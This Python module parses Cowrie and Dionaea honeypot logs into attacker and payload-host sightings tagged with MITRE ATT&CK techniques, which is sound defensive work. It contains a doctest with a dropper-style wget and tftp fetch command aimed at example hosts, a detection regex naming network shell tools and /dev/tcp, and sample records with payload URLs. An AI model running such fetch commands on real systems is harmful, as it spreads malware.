"""Logs of honeypots as `sightings` and dated labels: Cowrie's JSON log, Dionaea's JSON and incident logs.

Sighted are attackers' addresses (connect), hosts of files that were fetched (download) or could not be
(download_attempt), hosts in commands, in proxy requests and of calls back. What becomes a label besides is
told in `sightings`; a URL without a path does not: to fetch http://example.com/ is a test of the way out.
Events that name no host (logins, say) are passed over.
"""

from __future__ import annotations

import logging
import re
from collections.abc import Callable, Iterator, Mapping
from typing import Any, NamedTuple, TypedDict
from urllib.parse import urlsplit

from mithra.observe.dates import parse_date
from mithra.observe.readers import jsonfile
from mithra.observe.readers.sightings import FETCHED, ORDERED, Labelled, Sighting, sighting_rows
from mithra.observe.source import Options, Reader, Rejects, Rows, Source

__all__ = ["READERS", "cowrie_sightings", "dionaea_sightings", "hosts_in_command"]

INGRESS, SCANNING, SHELL, PROXY = "T1105", "T1595", "T1059.004", "T1090"  # MITRE ATT&CK
MAX_COMMAND_CHARS = 1 << 14

_URL = re.compile(
    r"\b[a-z][a-z0-9+.-]{1,9}://(?:[^\s/@'\"]*@)?(\[[0-9a-f:.]+\]|[\w.-]+)(?::\d+)?(/+[^\s/'\"|;&)]+)?",
    re.IGNORECASE,
)
_PLAIN_URL = re.compile(r"https?://([A-Za-z0-9.-]+)(?::\d*)?((?:/[\w./-]*)?)", re.ASCII)
_DEVICE = re.compile(r"/dev/(?:tcp|udp)/([\w.-]+)/\d")
_TOOLS = "wget|curl|tftp|ftpget|nc|ncat|netcat|telnet|ping|ssh|nslookup|dig"
_CALL = re.compile(rf"(?:^|[\s;&|(`/])({_TOOLS})\s+([^;&|`)\n]*)")
_VALUED = frozenset(f"-{letter}" for letter in "OoPUTteidHAuxXFmrlpwsc")  # options with a value
_MANY = {"wget", "curl"}  # each of their arguments is a place; of the others the first
_FILES = {"tftp", "ftpget"}  # they name host and file apart
_HOST = re.compile(
    r"(?:[\w-]+@)?([\w-]+(?:\.[\w-]+)*\.[a-z][\w-]*|\d{1,3}(?:\.\d{1,3}){3})(?::\d+)?(/.*)?",
    re.IGNORECASE,
)

log = logging.getLogger(__name__)


def hosts_in_command(command: str) -> dict[str, bool]:
    """Hosts that a shell command names, and whether a file is to be fetched from there.

    They stand in URLs, as the place of a fetch or a connection, and in /dev/tcp.

    >>> hosts_in_command("wget http://a.example/x.sh -O y && busybox tftp -g -r z 192.0.2.9; ping b.example")
    {'a.example': True, '192.0.2.9': True, 'b.example': False}
    """
    command = command[:MAX_COMMAND_CHARS]
    found = [(match[1], bool(match[2])) for match in _URL.finditer(command)]
    found += [(host, False) for host in _DEVICE.findall(command)]
    for tool, rest in _CALL.findall(command):
        places = [
            (host, tool in _FILES or path.strip("/") != "") for host, path in _places(rest.split(), tool)
        ]
        found += places if tool in _MANY else [(host, file and tool in _FILES) for host, file in places[:1]]
    hosts: dict[str, bool] = {}
    for host, file in found:
        if "." in host or ":" in host:
            hosts[host] = file or hosts.get(host, False)
    return hosts


def cowrie_sightings(event: Mapping[str, Any]) -> list[Sighting]:
    """Hosts of one of Cowrie's events."""
    hosts = _COWRIE.get(str(event.get("eventid")))
    return [] if hosts is None else _sightings(hosts(event), event, _text(event, "sensor"))


def dionaea_sightings(record: Mapping[str, Any]) -> list[Sighting]:
    """Hosts of one of Dionaea's incidents, or of a connection as its other log has it."""
    origin, data = _text(record, "origin"), _dict(record.get("data"))
    if origin in _DOWNLOADS:
        found = _file(data, done=origin == "dionaea.download.complete")
    elif origin is None or origin.startswith("dionaea.connection."):
        found = _connection(record, origin, data)
    else:
        return []
    return _sightings(found, record, _text(record, "name") or "dionaea")


def sniff_cowrie(sample: bytes) -> bool:
    """Events by Cowrie's ids."""
    record = jsonfile.first_record(sample)
    return record is not None and str(record.get("eventid", "")).startswith("cowrie.")


def sniff_dionaea(sample: bytes) -> bool:
    """Incidents by Dionaea's names, or connections as it describes them."""
    record = jsonfile.first_record(sample) or {}
    if str(record.get("origin", "")).startswith("dionaea."):
        return True
    link = record.get("connection")
    return isinstance(link, dict) and {"protocol", "transport", "type"} <= link.keys() and "src_ip" in record


def _reader(
    name: str,
    sniff: Callable[[bytes], bool],
    of: _Sightings,
    needs: set[str],
    *,
    about: str,
    example: str,
    fields: tuple[str, ...],
) -> Reader:
    """A reader of one kind of log, whose records have one of the keys `needs` at least."""
    parse = jsonfile.only(_Event)

    def read(source: Source, options: Options) -> Iterator[Rows | Rejects]:
        labelled: Labelled = {}
        for batch in jsonfile.records(source, parse):
            found = list[tuple[int, Sighting]]()
            for number, record in zip(batch.numbers, batch.values, strict=True):
                if needs.isdisjoint(record):
                    batch.rejects.add(number, "not_an_event", sorted(map(str, record)))
                found += [(number, sighting) for sighting in of(record)]
            log.info("%s: %d hosts in %d events", source.name, len(found), len(batch.values))
            yield from sighting_rows(found, batch.rejects, source, options, labelled)

    return Reader(name, 1, ("sightings", "labels"), sniff, read, about=about, example=example, fields=fields)


class _Event(TypedDict, total=False):
    timestamp: Any
    eventid: Any
    sensor: Any
    src_ip: Any
    url: Any
    input: Any
    dst_ip: Any
    origin: Any
    name: Any
    data: Any
    connection: Any
    src_hostname: Any


class _Found(NamedTuple):
    """Hosts of an event, those that are there."""

    kind: str
    technique: str | None
    hosts: Mapping[str | None, float | None]  # with confidences, as `Sighting.payload`


_Sightings = Callable[[Mapping[str, Any]], list[Sighting]]


def _sightings(found: _Found, record: Mapping[str, Any], sensor: str | None) -> list[Sighting]:
    seen_at = parse_date(_text(record, "timestamp") or "")
    return [
        Sighting(host, found.kind, sensor, found.technique, seen_at, payload)
        for host, payload in found.hosts.items()
        if host
    ]


def _file(record: Mapping[str, Any], *, done: bool) -> _Found:
    """The host of a URL that was fetched, or was to be."""
    url = _text(record, "url") or ""
    plain = _PLAIN_URL.fullmatch(url)
    try:
        if plain is None:
            parts = urlsplit(url)
            host, path = parts.hostname or url, parts.path.strip("/")
        else:  # urlsplit would say the same, slowly
            host, path = plain[1].lower(), plain[2].strip("/")
    except ValueError:
        host, path = url, ""
    kind = "download" if done else "download_attempt"
    return _Found(kind, INGRESS, {host: (FETCHED if done else ORDERED) if path else None})


def _connection(record: Mapping[str, Any], origin: str | None, data: Mapping[str, Any]) -> _Found:
    """The other end of a connection, as an incident or the log of connections has it."""
    link = _dict(data.get("connection") or data.get("con") or record.get("connection"))
    if origin is None:
        how, ends = _text(link, "type"), (_text(record, "src_ip"), _text(record, "src_hostname"))
    else:
        how, ends = origin.rpartition(".")[2], (_text(link, "remote_ip"), _text(link, "remote_hostname"))
    if how == "connect":  # by the sensor, as the attacker's code wanted
        return _Found("callback", None, {ends[1] or ends[0]: None})
    return _Found("connect", SCANNING, {ends[0] if how in {"accept", "reject"} else None: None})


def _command(text: str) -> _Found:
    hosts = hosts_in_command(text)
    return _Found("command", SHELL, {host: ORDERED if file else None for host, file in hosts.items()})


def _places(words: list[str], tool: str) -> Iterator[tuple[str, str]]:
    """Arguments that look like hosts, and the path after each; options are passed over, with their values."""
    valued = _VALUED - {"-O"} if tool == "curl" else _VALUED
    skip = False
    for word in words:
        found = _HOST.fullmatch(word.strip("'\""))
        if not skip and found and not word.startswith("-"):
            yield found[1], found[2] or ""
        skip = word in valued


def _text(record: Mapping[str, Any], key: str) -> str | None:
    value = record.get(key)
    return value if isinstance(value, str) and value else None


def _dict(value: Any) -> Mapping[str, Any]:
    return value if isinstance(value, dict) else {}


_DOWNLOADS = {"dionaea.download.complete", "dionaea.download.offer"}
_COWRIE: dict[str, Callable[[Mapping[str, Any]], _Found]] = {
    "cowrie.session.connect": lambda event: _Found("connect", SCANNING, {_text(event, "src_ip"): None}),
    "cowrie.session.file_download": lambda event: _file(event, done=True),
    "cowrie.session.file_download.failed": lambda event: _file(event, done=False),
    "cowrie.command.input": lambda event: _command(_text(event, "input") or ""),
    "cowrie.direct-tcpip.request": lambda event: _Found("proxy", PROXY, {_text(event, "dst_ip"): None}),
}
READERS = [
    _reader(
        "cowrie",
        sniff_cowrie,
        cowrie_sightings,
        {"eventid"},
        about="Cowrie's JSON log: who attacked, and which hosts were fetched from or named",
        example='{"eventid":"cowrie.session.file_download","timestamp":"2026-01-01T12:00:00.584777Z",'
        '"sensor":"sensor-1","src_ip":"192.0.2.7","url":"http://payload.example.com/bins/x.sh"}\n',
        fields=("eventid", "timestamp", "sensor", "src_ip", "url", "input", "dst_ip"),
    ),
    _reader(
        "dionaea",
        sniff_dionaea,
        dionaea_sightings,
        {"origin", "connection"},
        about="Dionaea's incidents and its JSON log: who attacked, and hosts fetched from or called back",
        example='{"timestamp":"2026-01-01T12:00:00.000001","name":"dionaea",'
        '"origin":"dionaea.download.complete","data":{"url":"http://payload.example.com/x.exe"}}\n',
        fields=(
            *("timestamp", "name", "origin", "data.url", "data.connection"),
            *("connection.type", "src_ip", "src_hostname"),
        ),
    ),
]
